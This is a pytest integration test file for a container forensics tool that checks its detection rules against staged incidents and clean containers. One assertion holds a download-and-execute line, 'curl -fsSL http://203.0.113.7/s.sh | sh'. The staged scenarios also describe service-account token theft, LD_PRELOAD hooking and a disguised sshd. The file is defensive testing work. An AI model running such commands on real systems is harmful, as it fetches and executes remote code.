"""Findings on real staged targets, and none on clean ones.

Two staged incidents in real shell-less containers:

* the demo target (tui/demo/target.c) under runc, with a route out and a fake
  service-account token (tui/demo/staging.py): a dropped binary run from /tmp
  and deleted, with LD_PRELOAD in its environment, listening on 4444, holding
  the token open and reaching for 203.0.113.7; a fileless process named like a
  kernel thread; a changed /etc file; a "download | sh" log line;
* the escalation lab (tests/support/findings_lab.py): a uid-1000 workload with
  CAP_SYS_PTRACE, a replaced package binary, /etc/ld.so.preload, a root process
  claiming to be sshd, a traced worker.

Every rule has its own test here, and every piece of evidence is checked
against the raw record it names (and, where the timeline has one, its event).
The same target run clean (LAB_MODE=clean) under runc, podman, containerd and
the Docker API gives no finding at all.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from collectors.capture import CaptureOptions, capture
from collectors.targets import resolve
from forensics.findings import Finding, FindingsReport, analyze_bundle
from forensics.timeline import open_timeline
from forensics.timeline.bundleio import read_record
from tests.integration.conftest import CLEAN_ENV, Lab
from tests.support import findings_lab
from tui.demo.lab import start_demo_container
from tui.demo.launch import LabContainer

pytestmark = pytest.mark.integration
EXUVIA = str(Path(sys.executable).with_name("exuvia"))

INCIDENT_RULES = {
    "exe.memfd",
    "exe.deleted",
    "exe.writable-dir",
    "env.preload",
    "secrets.sa-token",
    "inventory.added-after-start",
    "cmdline.kernel-thread-name",
    "logs.attack-tooling",
    "net.late-listener",
    "net.outbound",
    "files.changed-system",
}
ESCALATION_RULES = {
    "env.ld-so-preload",
    "priv.capabilities",
    "priv.root-in-nonroot",
    "priv.traced",
    "cmdline.claims-other-program",
    "files.changed-system",
    "inventory.modified",
    "inventory.unaccounted",
}


def _need_root() -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root (containers, overlay mounts)")
    for tool in ("runc", "ip"):
        if shutil.which(tool) is None:
            pytest.skip(f"{tool} is not installed")


def _capture(box: LabContainer, out: Path) -> Path:
    res = capture(resolve(box.uri), CaptureOptions(output=out, examiner="t", case="findings",
                                                   argv=["test"]))  # fmt: skip
    assert res.complete
    return res.path


@pytest.fixture(scope="module")
def incident(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[FindingsReport, dict]]:
    _need_root()
    wd = tmp_path_factory.mktemp("findings-incident")
    with start_demo_container(wd) as box:
        kids = _children(box.pid)
        bundle = _capture(box, wd / "incident.exv")
    yield analyze_bundle(bundle), {"box": box, "kids": kids, "bundle": bundle}


@pytest.fixture(scope="module")
def escalation(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[FindingsReport, findings_lab.Staged]]:
    _need_root()
    wd = tmp_path_factory.mktemp("findings-escalation")
    with findings_lab.start(wd) as box:
        staged = findings_lab.stage(box, wd / "exec.log")
        bundle = _capture(box, wd / "escalation.exv")
    yield analyze_bundle(bundle), staged


def _children(pid: int) -> dict[str, int]:
    """Host pids of the target's children by name (read from /proc, not the bundle)."""
    out: dict[str, int] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat = Path(f"/proc/{entry}/stat").read_bytes()
            except OSError:
                continue
            if int(stat[stat.rindex(b")") + 2 :].split()[1]) == pid:
                out[stat[stat.index(b"(") + 1 : stat.rindex(b")")].decode()] = int(entry)
    return out


def _by_rule(report: FindingsReport, rule: str) -> list[Finding]:
    found = [f for f in report.findings if f.rule == rule]
    assert found, f"{rule} did not fire: {[f.title for f in report.findings]}"
    return found


def _record(bundle: Path | str, member: str, line: int) -> dict[str, Any]:
    rec = json.loads(read_record(bundle, member, line))
    assert isinstance(rec, dict)
    return rec


def _check_evidence(report: FindingsReport) -> None:
    """Every evidence names the record it describes, and the timeline can pivot to it."""
    bundle = report.bundle
    with open_timeline(bundle) as tl:
        for f in report.findings:
            assert f.evidence, f.title
            for ev in f.evidence:
                raw = read_record(bundle, ev.member, ev.line)
                if ev.pivot == "log":
                    assert ev.text.split()[-1] in raw.decode("utf-8", "replace")
                    assert tl.event_at_ref(ev.member, ev.line) is not None
                    continue
                rec = json.loads(raw)
                if ev.pivot == "process":
                    assert rec["kind"] == "process" and rec["pid"] == ev.key
                    assert tl.event_at_ref(ev.member, ev.line).attrs["pid"] == ev.key
                elif ev.pivot == "file":
                    assert rec["kind"] == "fs_entry" and rec["path"] == ev.key
                    assert tl.event_at_ref(ev.member, ev.line).entity == ev.key
                elif ev.pivot == "socket":
                    assert rec["kind"] == "socket"
                    assert ev.key in [o["pid"] for o in rec["owners"]]


# -- the demo's incident -----------------------------------------------------------


def test_incident_fires_exactly_its_rules_ranked(incident: tuple[FindingsReport, dict]) -> None:
    report, _ = incident
    assert {f.rule for f in report.findings} == INCIDENT_RULES
    keys = [f.rank_key() for f in report.findings]
    assert keys == sorted(keys)
    assert (
        report.findings[0].rule == "exe.memfd" and report.findings[0].severity.label == "critical"
    )
    again = analyze_bundle(report.bundle)
    assert [f.id for f in again.findings] == [f.id for f in report.findings]  # stable ids
    _check_evidence(report)


def test_memfd_and_kernel_thread_name(incident: tuple[FindingsReport, dict]) -> None:
    report, lab = incident
    pid = lab["kids"]["kworker-memfd"]
    (memfd,) = _by_rule(report, "exe.memfd")
    assert memfd.attrs["pid"] == pid and memfd.attrs["exe"].startswith("/memfd:kworker")
    copied = [e for e in memfd.evidence if e.pivot == "record"]
    rec = _record(report.bundle, copied[0].member, copied[0].line)
    assert rec["kind"] == "binary" and rec["pid"] == pid
    (named,) = _by_rule(report, "cmdline.kernel-thread-name")
    assert named.attrs["pid"] == pid and named.attrs["name"] == "kworker-memfd"


def test_dropped_implant(incident: tuple[FindingsReport, dict]) -> None:
    report, lab = incident
    pid = lab["kids"][".x"]
    for rule in ("exe.deleted", "exe.writable-dir"):
        (f,) = _by_rule(report, rule)
        assert f.attrs["pid"] == pid and "/tmp/.x" in f.title
    (added,) = _by_rule(report, "inventory.added-after-start")
    assert added.attrs["pids"] == [pid] and added.severity.label == "high"
    (env,) = _by_rule(report, "env.preload")
    assert env.attrs == {"pid": pid, "variable": "LD_PRELOAD", "value": "/tmp/.libhook.so",
                         "inherited": False}  # fmt: skip


def test_token_read_by_another_process(incident: tuple[FindingsReport, dict]) -> None:
    report, lab = incident
    (f,) = _by_rule(report, "secrets.sa-token")
    pid = lab["kids"][".x"]
    assert f.attrs["pid"] == pid and f.severity.label == "high"
    assert f.attrs["paths"] == ["/var/run/secrets/kubernetes.io/serviceaccount/token"]
    rec = _record(report.bundle, f.evidence[0].member, f.evidence[0].line)
    fds = {fd["fd"]: fd["target"] for fd in rec["fds"]}
    assert fds[f.attrs["fds"][0]].endswith("serviceaccount/token")


def test_listener_and_outbound_connections(incident: tuple[FindingsReport, dict]) -> None:
    report, lab = incident
    pid = lab["kids"][".x"]
    (late,) = _by_rule(report, "net.late-listener")
    assert late.attrs["local_port"] == 4444 and late.attrs["pids"] == [pid]
    assert late.attrs["started_after_s"] > 1.0
    out = _by_rule(report, "net.outbound")
    assert {(f.attrs["remote_addr"], f.attrs["remote_port"]) for f in out} == {
        ("203.0.113.7", 443),
        ("203.0.113.7", 53),
    }
    assert all(f.attrs["pids"] == [pid] for f in out)  # loopback links to :8080 are not listed


def test_changed_config_and_attack_log(incident: tuple[FindingsReport, dict]) -> None:
    report, _ = incident
    (changed,) = _by_rule(report, "files.changed-system")
    assert changed.attrs["path"] == "/etc/app/app.conf" and changed.severity.label == "medium"
    (log,) = _by_rule(report, "logs.attack-tooling")
    assert log.attrs["pattern"] == "download-exec"
    assert all("curl -fsSL http://203.0.113.7/s.sh | sh" in e.text for e in log.evidence)
    # stdout in the runtime log and the target's own /var/log/app/app.log
    members = sorted(e.member for e in log.evidence)
    assert members[0] == "files/var/log/app/app.log" and members[1].startswith("logs/runtime/")


def test_cli_prints_ranked_and_json(incident: tuple[FindingsReport, dict]) -> None:
    report, _ = incident
    r = subprocess.run([EXUVIA, "findings", report.bundle], capture_output=True, text=True,
                       timeout=120, check=False)  # fmt: skip
    assert r.returncode == 0, r.stderr
    lines = [ln for ln in r.stdout.splitlines() if ln.startswith(("CRITICAL", "HIGH", "MEDIUM"))]
    assert lines[0].startswith("CRITICAL") and "memfd" in lines[0]
    assert len(lines) == len(report.findings)
    r = subprocess.run([EXUVIA, "findings", report.bundle, "--output", "json"],
                       capture_output=True, text=True, timeout=120, check=False)  # fmt: skip
    doc = json.loads(r.stdout)
    assert doc["format"] == "exuvia-findings" and doc["version"] == "1.0"
    assert [f["id"] for f in doc["findings"]] == [f.id for f in report.findings]
    assert doc["counts"]["critical"] == 1


# -- the escalation lab ------------------------------------------------------------


def test_escalation_fires_exactly_its_rules(
    escalation: tuple[FindingsReport, findings_lab.Staged],
) -> None:
    report, _ = escalation
    assert {f.rule for f in report.findings} == ESCALATION_RULES
    _check_evidence(report)


def test_traced_worker(escalation: tuple[FindingsReport, findings_lab.Staged]) -> None:
    report, st = escalation
    (f,) = _by_rule(report, "priv.traced")
    assert f.attrs == {"pid": st.worker_pid, "tracer_pid": st.tracer_pid, "tracer_inside": True}
    assert [e.key for e in f.evidence] == [st.worker_pid, st.tracer_pid]


def test_root_claiming_to_be_sshd(escalation: tuple[FindingsReport, findings_lab.Staged]) -> None:
    report, st = escalation
    (root,) = _by_rule(report, "priv.root-in-nonroot")
    assert root.attrs["pid"] == st.sshd_pid and root.attrs["main_uid"] == findings_lab.UID
    (claim,) = _by_rule(report, "cmdline.claims-other-program")
    assert claim.attrs == {"pid": st.sshd_pid, "argv0": "/usr/sbin/sshd",
                           "claimed": "/usr/sbin/sshd", "exe": "/hostile"}  # fmt: skip


def test_capabilities_grouped(escalation: tuple[FindingsReport, findings_lab.Staged]) -> None:
    report, st = escalation
    (caps,) = _by_rule(report, "priv.capabilities")
    assert caps.attrs["capabilities"] == ["CAP_SYS_PTRACE"]
    assert {st.box.pid, st.worker_pid, st.sshd_pid, st.tracer_pid} <= set(caps.attrs["pids"])


def test_replaced_package_binary_and_preload_file(
    escalation: tuple[FindingsReport, findings_lab.Staged],
) -> None:
    report, _ = escalation
    (mod,) = _by_rule(report, "inventory.modified")
    assert mod.attrs["path"] == findings_lab.HELLO and mod.attrs["packages"][0].startswith(
        "pkg:deb/debian/hello@2.10-3"
    )
    changed = {f.attrs["path"]: f for f in _by_rule(report, "files.changed-system")}
    assert changed[findings_lab.HELLO].severity.label == "high"  # an executable
    assert "/etc/ld.so.preload" in changed
    (pre,) = _by_rule(report, "env.ld-so-preload")
    assert pre.attrs == {"path": "/etc/ld.so.preload", "changed": True}
    unaccounted = {
        f.attrs["path"]: f.severity.label for f in _by_rule(report, "inventory.unaccounted")
    }
    assert unaccounted == {"/app/target": "medium", "/hostile": "medium"}  # both run


# -- clean targets: no finding at all ------------------------------------------------


@pytest.mark.parametrize("runtime", ["runc", "podman", "containerd", "docker"])
def test_clean_target_has_no_findings(
    runtime: str, lab: Lab, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    if runtime == "docker":
        service = request.getfixturevalue("docker_service")
        mp = pytest.MonkeyPatch()
        mp.setenv("DOCKER_HOST", service.docker_host)
        request.addfinalizer(mp.undo)
    box = getattr(lab, runtime)(env=CLEAN_ENV)
    try:
        report = analyze_bundle(_capture(box, tmp_path / "clean.exv"))
    finally:
        box.stop()
    assert report.facts.processes and report.facts.sockets and report.facts.logs_scanned
    assert report.findings == [], [f"{f.rule}: {f.title}" for f in report.findings]
